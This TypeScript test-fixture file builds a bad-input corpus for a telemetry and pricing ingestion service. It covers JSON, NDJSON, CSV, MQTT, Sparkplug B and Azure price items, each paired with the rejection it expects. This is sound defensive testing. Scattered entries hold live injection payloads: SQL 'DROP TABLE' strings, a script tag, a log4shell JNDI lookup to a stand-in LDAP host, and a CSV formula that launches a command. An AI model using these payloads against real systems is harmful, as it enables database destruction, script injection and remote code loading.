/**
 * The bad-input corpus: what a hostile or broken client sends to each entry point. Every entry must
 * get a clear rejection, at ingest (an HTTP answer, a rejected row, a failed page) or downstream (a
 * dead letter with its reason), and no process may crash or grow without bound on any of it.
 * Device ids start with `{p}`, replaced by each run's prefix.
 */

import sparkplugPayload from 'sparkplug-payload';
import type { ReasonCode } from '../../lib/reasons.ts';
import { aliasData } from '../../schemas/fixtures/sparkplug.ts';

const mb = 1024 * 1024;
const now = () => Date.now();

/** Readings that parse but can never be normalized: each must be rejected with its reason. */
export function badReadings(prefix: string): Record<string, unknown>[] {
  const device = (n: number) => `${prefix}-${n}`;
  return [
    { deviceId: device(1), metric: 'temperature', value: 'hot', unit: 'degC' }, // wrong type
    { deviceId: device(2), metric: 'temperature', value: [1, 2], unit: 'degC' }, // wrong type
    { deviceId: device(3), metric: 'temperature', value: { v: 1 }, unit: 'degC' }, // wrong type
    { deviceId: 42, metric: 'temperature', unit: 'degC' }, // wrong type, no value
    { deviceId: device(4), metric: 'temperature', value: 1e308 * 10, unit: 'degC' }, // Infinity → null in JSON
    { deviceId: device(5), metric: 'temperature', value: 1.7976931348623157e308, unit: 'degC' }, // huge
    { deviceId: device(6), metric: 'pressure', value: -1e300, unit: 'bar' }, // huge negative
    { deviceId: device(7), metric: 'temperature', value: -500, unit: 'degC' }, // below absolute zero
    { deviceId: device(8), metric: 'temperature', value: 21, unit: 'furlongs/fortnight' }, // unknown unit
    { deviceId: device(9), metric: 'temperature', value: 21, unit: 'psi' }, // unit of another quantity
    { deviceId: device(10), metric: 'temperature', value: 21, unit: 'degC', ts: now() + 86_400_000 * 365 }, // future
    { deviceId: device(11), metric: 'temperature', value: 21, unit: 'degC', ts: '0001-01-01T00:00:00Z' }, // ancient
    { deviceId: device(12), metric: 'temperature', value: 21, unit: 'degC', ts: -1 }, // before 1970
    { deviceId: device(13), metric: 'temperature', value: 21, unit: 'degC', ts: 'yesterday noon' }, // not a time
    { deviceId: device(14), metric: 'temperature', value: 21, unit: 'degC', ts: 1e30 }, // huge time
    { deviceId: `${device(15)}\u0000\u0007\u001b[2J`, metric: 'temperature', value: 21, unit: 'degC' }, // control chars
    { deviceId: device(16), metric: 'temp\u0000erature', value: 21, unit: 'degC' }, // control char in metric
    { deviceId: `${device(17)}'); DROP TABLE devices;--`, metric: 'temperature', value: 21, unit: 'degC' }, // SQL
    { deviceId: `${device(18)}<script>alert(1)</script>`, metric: 'temperature', value: 21, unit: 'degC' }, // HTML
    { deviceId: `${device(19)}`, metric: "x' OR '1'='1", value: 21, unit: 'degC' }, // SQL in metric
    { deviceId: `${device(20)}`, metric: `\${jndi:ldap://x/a}`, value: 21, unit: 'degC' }, // log4shell
    { deviceId: device(21), metric: 'temperature', unit: 'degC' }, // no value
    { deviceId: device(22), value: 21, unit: 'degC' }, // no metric
    { metric: 'temperature', value: 21, unit: 'degC' }, // no device
    { deviceId: device(23), metric: 'temperature', value: 21, unit: 'x'.repeat(300) }, // long unit
    { deviceId: `${device(24)}${'d'.repeat(300)}`, metric: 'temperature', value: 21, unit: 'degC' }, // long id
  ];
}

export interface HttpEntry {
  name: string;
  path: '/v1/ingest/telemetry' | '/v1/ingest/telemetry/csv';
  contentType: string;
  body: Buffer;
  /** The answer's status; 202 and 422 answers list every reading, each rejected here or downstream. */
  status: number;
  /** The `error` field of a refused body. */
  error?: string;
}

const json = (value: unknown) => Buffer.from(JSON.stringify(value));

export function httpCorpus(prefix: string): HttpEntry[] {
  const readings = badReadings(prefix);
  const ndjsonLines = readings.map((reading) => JSON.stringify(reading));
  const entry = (
    name: string,
    body: Buffer | string,
    status: number,
    options: Partial<Pick<HttpEntry, 'path' | 'contentType' | 'error'>> = {},
  ): HttpEntry => ({
    name,
    path: options.path ?? '/v1/ingest/telemetry',
    contentType: options.contentType ?? 'application/json',
    body: Buffer.isBuffer(body) ? body : Buffer.from(body),
    status,
    error: options.error,
  });
  const ndjson = { contentType: 'application/x-ndjson' };
  const csv = { path: '/v1/ingest/telemetry/csv' as const, contentType: 'text/csv' };
  const csvHeader = 'deviceId,metric,value,unit,ts';
  return [
    entry('JSON: bad readings, each on its own', json(readings), 422),
    entry('JSON: truncated array', json(readings).subarray(0, 200), 400, { error: 'malformed_json' }),
    entry('JSON: truncated object', '{"deviceId":"x","metric":', 400, { error: 'malformed_json' }),
    entry('JSON: NaN literal', `{"deviceId":"${prefix}-30","metric":"t","value":NaN}`, 400, {
      error: 'malformed_json',
    }),
    entry('JSON: Infinity literal', `[{"deviceId":"${prefix}-31","metric":"t","value":Infinity}]`, 400, {
      error: 'malformed_json',
    }),
    entry(
      'JSON: number too large for a double',
      `{"deviceId":"${prefix}-32","metric":"temperature","unit":"degC","value":1e400}`,
      422,
    ),
    entry(
      'JSON: 1 MB string in a reading',
      json({ deviceId: `${prefix}-33`, metric: 't', value: 1, note: 'x'.repeat(mb) }),
      422,
    ),
    entry('JSON: 1 MB device id', json({ deviceId: 'd'.repeat(mb), metric: 't', value: 1 }), 422),
    entry('JSON: nesting 100,000 deep', '['.repeat(100_000), 400, { error: 'json_too_deep' }),
    entry(
      'JSON: deep object in a reading',
      `[{"deviceId":"${prefix}-34","x":${'{"a":'.repeat(40)}1${'}'.repeat(40)}}]`,
      400,
      {
        error: 'json_too_deep',
      },
    ),
    entry(
      'JSON: invalid UTF-8 in a string',
      Buffer.concat([
        Buffer.from(`[{"deviceId":"${prefix}-35-`),
        Buffer.from([0xff, 0xfe, 0xc0]),
        Buffer.from('","metric":"temperature","value":1,"unit":"degC"}]'),
      ]),
      422,
    ),
    entry('JSON: a bare number', '42', 400),
    entry('JSON: a string', '"reading"', 400),
    entry('JSON: null', 'null', 400),
    entry('JSON: an array of nulls and numbers', '[null, 1, "x", [], true]', 422),
    entry('JSON: empty array (answered 202, nothing accepted)', '[]', 202),
    entry('JSON: empty body', '', 400, { error: 'malformed_json' }),
    entry('JSON: whitespace only', '   \n\t ', 400, { error: 'malformed_json' }),
    entry('JSON: binary garbage', Buffer.from(Array.from({ length: 4096 }, (_, i) => (i * 7919) % 256)), 400),
    entry('JSON: 6 MB body', Buffer.alloc(6 * mb, 0x20), 413, { error: 'body_too_large' }),
    entry('JSON: 10,001 readings', json(Array.from({ length: 10_001 }, () => ({}))), 413),
    entry('JSON: wrong content type', json(readings), 415, {
      contentType: 'application/xml',
      error: 'unsupported_media_type',
    }),
    entry(
      'NDJSON: bad readings and malformed lines',
      [...ndjsonLines, '{"deviceId":', 'not json', '[]'].join('\n'),
      422,
      ndjson,
    ),
    entry(
      'NDJSON: invalid UTF-8 line',
      Buffer.concat([
        Buffer.from(`{"deviceId":"${prefix}-36-`),
        Buffer.from([0xc3, 0x28]),
        Buffer.from('","metric":"temperature","value":1,"unit":"degC"}\n'),
      ]),
      422,
      ndjson,
    ),
    entry('NDJSON: blank lines only (answered 202, nothing accepted)', '\n\n\n', 202, ndjson),
    entry(
      'NDJSON: one 1 MB line',
      `${JSON.stringify({ deviceId: `${prefix}-37`, metric: 't', value: 1, note: 'y'.repeat(mb) })}\n`,
      422,
      ndjson,
    ),
    entry(
      'CSV: bad readings',
      [
        csvHeader,
        `${prefix}-40,temperature,hot,degC,`,
        `${prefix}-41,temperature,NaN,degC,`,
        `${prefix}-42,temperature,Infinity,degC,`,
        `${prefix}-43,temperature,1e400,degC,`,
        `${prefix}-44,temperature,21,furlongs,`,
        `${prefix}-45,temperature,21,degC,${now() + 86_400_000 * 365}`,
        `${prefix}-46,temperature,21,degC,0001-01-01T00:00:00Z`,
        `=cmd|' /C calc'!A0,temperature,21,degC,`,
        `${prefix}-47,"temp""erature",21,degC,`,
        `${prefix}-48,temperature,,degC,`,
        `${prefix}-49,temperature,21`,
      ].join('\n'),
      422,
      csv,
    ),
    entry('CSV: unclosed quote', `${csvHeader}\n${prefix}-50,"temperature,21,degC,\n`, 400, csv),
    entry('CSV: header only (answered 202, nothing accepted)', `${csvHeader}\n`, 202, csv),
    entry('CSV: no header', '', 400, csv),
    entry(
      'CSV: invalid UTF-8',
      Buffer.concat([
        Buffer.from(`${csvHeader}\n${prefix}-51`),
        Buffer.from([0xff]),
        Buffer.from(',temperature,21,degC,\n'),
      ]),
      422,
      csv,
    ),
    entry('CSV: sent as JSON', `${csvHeader}\n${prefix}-52,temperature,21,degC,\n`, 400, {
      error: 'malformed_json',
    }),
  ];
}

/** MQTT payloads on a device's topic; the bridge keeps what it cannot read with value null (then the DLQ). */
export function mqttCorpus(): { name: string; payload: Buffer }[] {
  return [
    { name: 'truncated JSON', payload: Buffer.from('{"value": 2') },
    { name: 'wrong type', payload: Buffer.from('{"value": "hot", "unit": "degC"}') },
    { name: 'NaN', payload: Buffer.from('NaN') },
    { name: 'Infinity', payload: Buffer.from('Infinity') },
    { name: 'huge number', payload: Buffer.from('1e400') },
    { name: 'unknown unit', payload: Buffer.from('{"value": 21, "unit": "furlongs/fortnight"}') },
    {
      name: 'future time',
      payload: Buffer.from(JSON.stringify({ value: 21, unit: 'degC', ts: now() + 86_400_000 * 365 })),
    },
    {
      name: 'ancient time',
      payload: Buffer.from('{"value": 21, "unit": "degC", "ts": "0001-01-01T00:00:00Z"}'),
    },
    { name: 'invalid UTF-8', payload: Buffer.from([0x7b, 0x22, 0xff, 0xfe, 0x22, 0x3a, 0x31, 0x7d]) },
    { name: 'control characters', payload: Buffer.from('\u0000\u0001\u0002') },
    { name: 'deep nesting', payload: Buffer.from(`{"value":${'['.repeat(50_000)}`) },
    { name: 'binary garbage', payload: Buffer.from(Array.from({ length: 2048 }, (_, i) => (i * 31) % 256)) },
    { name: 'empty', payload: Buffer.alloc(0) },
    {
      name: '1 MB string',
      payload: Buffer.from(JSON.stringify({ value: 1, unit: 'degC', note: 'z'.repeat(mb) })),
    },
  ];
}

const sparkplugCodec = sparkplugPayload.get('spBv1.0') as NonNullable<
  ReturnType<typeof sparkplugPayload.get>
>;

/**
 * Sparkplug B messages of one edge node (group `group`, node `Edge-C`), in publishing order, each
 * with the dead letters the bridge must write for it at the door and the readings it lets through
 * (each of which the processor must reject). Encoded with Tahu's codec as the fixtures are.
 */
export function sparkplugCorpus(group: string): {
  name: string;
  topic: string;
  payload: Buffer;
  letters: ReasonCode[];
  readings: number;
}[] {
  const node = 'Edge-C';
  const topic = (kind: string, device?: string) =>
    `spBv1.0/${group}/${kind}/${node}${device ? `/${device}` : ''}`;
  const degC = { engUnit: { type: 'String', value: 'degC' } } as const;
  const time = now();
  const birth = Buffer.from(
    sparkplugCodec.encodePayload({
      timestamp: time,
      seq: 0,
      metrics: [
        { name: 'bdSeq', type: 'UInt64', value: 0 },
        { name: 'Bad/NaN', alias: 1, type: 'Double', value: Number.NaN, properties: degC },
        { name: 'Bad/Infinity', alias: 2, type: 'Double', value: Number.POSITIVE_INFINITY, properties: degC },
        {
          name: 'Bad/Huge',
          alias: 3,
          type: 'Double',
          value: 1.7976931348623157e308,
          properties: { engUnit: { type: 'String', value: 'furlongs/fortnight' } } as const,
        },
        { name: 'Bad/Ctrl\u0000\u001b[2J', alias: 4, type: 'Double', value: 1, properties: degC },
        {
          name: "Bad/x'; DROP TABLE telemetry_readings; --",
          alias: 5,
          type: 'Double',
          value: 1,
          properties: degC,
        },
        {
          name: 'Bad/Future',
          alias: 6,
          type: 'Double',
          value: 21,
          timestamp: time + 86_400_000 * 365,
          properties: degC,
        },
        { name: 'Bad/Ancient', alias: 7, type: 'Double', value: 21, timestamp: 0, properties: degC },
        { name: 'Bad/Text', alias: 8, type: 'String', value: 'hot' },
      ],
    }),
  );
  const double = 10;
  return [
    {
      name: 'NBIRTH cut off halfway',
      topic: topic('NBIRTH'),
      payload: birth.subarray(0, Math.floor(birth.length / 2)),
      letters: ['payload_unreadable'],
      readings: 0,
    },
    {
      name: 'DDATA before any birth',
      topic: topic('DDATA', 'Ghost'),
      payload: aliasData(time, 0, [{ alias: 1, timestamp: time, value: 1, datatype: double }]),
      letters: ['sparkplug_birth_missing'],
      readings: 0,
    },
    {
      name: 'NBIRTH of NaN, Infinity, a huge value in an unknown unit, control characters and SQL in names, future and ancient times, a String',
      topic: topic('NBIRTH'),
      payload: birth,
      letters: ['sparkplug_type_unsupported'],
      readings: 7,
    },
    {
      name: 'NDATA naming an alias the birth did not declare',
      topic: topic('NDATA'),
      payload: aliasData(time, 1, [{ alias: 999, timestamp: time, value: 1, datatype: double }]),
      letters: ['sparkplug_alias_unknown'],
      readings: 0,
    },
    {
      name: 'NDATA with a sequence gap, NaN by alias',
      topic: topic('NDATA'),
      payload: aliasData(time, 9, [{ alias: 1, timestamp: time, value: Number.NaN, datatype: double }]),
      letters: [],
      readings: 1,
    },
    {
      name: 'NDATA of binary garbage',
      topic: topic('NDATA'),
      payload: Buffer.from([0x12, 0xff, 0xff, 0xff, 0xff, 0x0f, 0x01]),
      letters: ['payload_unreadable'],
      readings: 0,
    },
    {
      name: 'NDATA of 1 MB',
      topic: topic('NDATA'),
      payload: Buffer.concat([aliasData(time, 10, []), Buffer.alloc(mb, 0x41)]),
      letters: ['payload_too_large'],
      readings: 0,
    },
    {
      name: 'a message type Sparkplug does not have',
      topic: topic('NBOGUS'),
      payload: birth,
      letters: ['topic_unmapped'],
      readings: 0,
    },
  ];
}

/** Files for `sluice import telemetry`: each is imported as far as it is readable, every bad row rejected. */
export function importCorpus(prefix: string): { name: string; file: string; content: Buffer }[] {
  const readings = badReadings(prefix);
  return [
    {
      name: 'NDJSON of bad readings and broken lines',
      file: 'bad.ndjson',
      content: Buffer.from(`${readings.map((r) => JSON.stringify(r)).join('\n')}\n{"deviceId":\nnot json\n`),
    },
    { name: 'JSON array broken halfway', file: 'broken.json', content: json(readings).subarray(0, 900) },
    {
      name: 'CSV with bad rows and invalid UTF-8',
      file: 'bad.csv',
      content: Buffer.concat([
        Buffer.from(
          `deviceId,metric,value,unit\n${prefix}-60,temperature,hot,degC\n${prefix}-61,temperature,21,furlongs\n`,
        ),
        Buffer.from([0xff, 0xfe]),
        Buffer.from(`,temperature,1,degC\n${prefix}-62,"unclosed,1,degC\n`),
      ]),
    },
    {
      name: 'a 2 MB line',
      file: 'long.ndjson',
      content: Buffer.from(
        `${JSON.stringify({ deviceId: `${prefix}-63`, metric: 't', value: 1, note: 'q'.repeat(2 * mb) })}\n`,
      ),
    },
    { name: 'empty file', file: 'empty.csv', content: Buffer.alloc(0) },
  ];
}

/** Stands for a number JSON can write but a double cannot hold: `azurePage` writes it as 1e309. */
const hugeNumber = 'corpus-huge-number';

/** An Azure page's body as the upstream sends it, with numbers no JSON serialiser would write. */
export function azurePage(items: unknown[], nextPageLink: string | null): string {
  return JSON.stringify({ Items: items, NextPageLink: nextPageLink }).replaceAll(`"${hugeNumber}"`, '1e309');
}

/** A product name that is an SQL injection: plain text to Sluice, stored as sent. */
export const injectedProductName = "Virtual Machines'); DROP TABLE pricing_prices;--";

/**
 * Azure Retail Prices items a broken or hostile upstream could serve; the pricing processor rejects
 * each, except the injection, which is only text.
 */
export function badAzureItems(): Record<string, unknown>[] {
  const base = {
    currencyCode: 'USD',
    tierMinimumUnits: 0,
    retailPrice: 0.1,
    unitPrice: 0.1,
    armRegionName: 'westeurope',
    location: 'EU West',
    effectiveStartDate: '2024-01-01T00:00:00Z',
    meterName: 'D2 v3',
    productName: 'Virtual Machines Dv3 Series',
    skuName: 'D2 v3',
    serviceName: 'Virtual Machines',
    serviceFamily: 'Compute',
    unitOfMeasure: '1 Hour',
    type: 'Consumption',
    isPrimaryMeterRegion: true,
  };
  const item = (n: number, overrides: Record<string, unknown>) => ({
    ...base,
    meterId: `corpus-meter-${n}`,
    skuId: `corpus-sku-${n}`,
    ...overrides,
  });
  return [
    item(1, { retailPrice: 'free' }),
    item(2, { retailPrice: -1 }),
    item(3, { retailPrice: null, unitPrice: null }),
    item(4, { retailPrice: hugeNumber, unitPrice: hugeNumber }),
    item(5, { currencyCode: 'XXX' }),
    item(6, { unitOfMeasure: 'per fortnight-furlong' }),
    item(7, { serviceName: 'x'.repeat(mb) }),
    item(8, { productName: injectedProductName }), // text: kept as it is, never executed
    item(10, { effectiveStartDate: 'next tuesday' }),
    item(11, { unitOfMeasure: '' }),
  ];
}
